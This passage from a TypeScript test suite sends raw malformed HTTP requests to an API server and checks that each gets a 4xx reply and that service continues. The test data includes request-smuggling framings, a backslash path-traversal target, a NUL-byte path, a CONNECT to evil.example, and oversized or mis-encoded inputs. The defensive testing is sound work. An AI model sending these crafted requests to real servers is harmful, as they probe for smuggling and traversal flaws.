      { seed: SEED + 7, numRuns: 150 },
    );
  });

  it('answers malformed framing, targets and raw bodies with a JSON 4xx, and keeps serving', { timeout: 120_000 }, async () => {
    const cases: [string, Buffer, number[]][] = [
      ['bad content-length', Buffer.from('POST /api/auth/prelogin HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: abc\r\n\r\n'), [400]],
      ['two content-lengths', Buffer.from('POST /api/auth/prelogin HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 2\r\nContent-Length: 3\r\n\r\n{}'), [400]],
      ['content-length and chunked', Buffer.from('POST /api/auth/prelogin HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n'), [400]],
      ['bad chunk size', Buffer.from('POST /api/auth/prelogin HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n'), [400]],
      ['declared 100 GB', Buffer.from('POST /api/sync/push HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 107374182400\r\n\r\n{'), [401, 413]],
      ['chunked 3 MB', Buffer.from('POST /api/auth/prelogin HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n' + `100000\r\n${'a'.repeat(0x100000)}\r\n`.repeat(3) + '0\r\n\r\n'), [413]],
      ['no host', Buffer.from('GET /api/sync/pull HTTP/1.1\r\n\r\n'), [400]],
      ['asterisk target', Buffer.from('OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n'), [400, 404]],
      ['backslash target', Buffer.from('GET /api\\..\\health HTTP/1.1\r\nHost: x\r\n\r\n'), [400, 404]],
      ['CONNECT', Buffer.from('CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n'), [405]],
      ['TLS hello', Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03]), [400]],
      ['header too large', Buffer.from(`GET /api/sync/pull HTTP/1.1\r\nHost: x\r\nX-Big: ${'a'.repeat(70_000)}\r\n\r\n`), [400, 431]],
      ['bad UTF-8 JSON body', Buffer.concat([Buffer.from('POST /api/auth/prelogin HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 20\r\n\r\n{"email":"'), Buffer.from([0xff, 0xc3, 0x28, 0xed, 0xa0, 0x80, 0x80]), Buffer.from('"}x')]), [400]],
      ['UTF-16 body', Buffer.concat([Buffer.from('POST /api/auth/prelogin HTTP/1.1\r\nHost: x\r\nContent-Type: application/json; charset=utf-16\r\nContent-Length: 44\r\n\r\n'), Buffer.from('{"email":"a@example.org"}'.padEnd(22), 'utf16le')]), [400]],
      ['bad UTF-8 in Authorization', Buffer.concat([Buffer.from('GET /api/sync/pull HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer '), Buffer.from([0xe9, 0xff, 0x2e, 0x61, 0x2e, 0x62]), Buffer.from('\r\n\r\n')]), [401]],
      ['NUL in path', Buffer.from('GET /api/products/1234%005678 HTTP/1.1\r\nHost: x\r\n\r\n'), [400]],
      ['form body', Buffer.from('POST /api/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 27\r\n\r\nemail=a%40b.org&auth_key=x'), [415]],
    ];
    for (const [what, bytes, allowed] of cases) expectRawError(await rawExchange(proc.url, bytes), what, allowed);
    // A slow-loris-free, valid request afterwards is served as ever.
    const res = await fetch(`${proc.url}/api/auth/prelogin`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ email: 'after@example.org' }) });
    expect(res.status).toBe(200);
    expect(((await res.json()) as { salt: string }).salt).toMatch(/^[A-Za-z0-9_-]{43,}$/);
  });
});
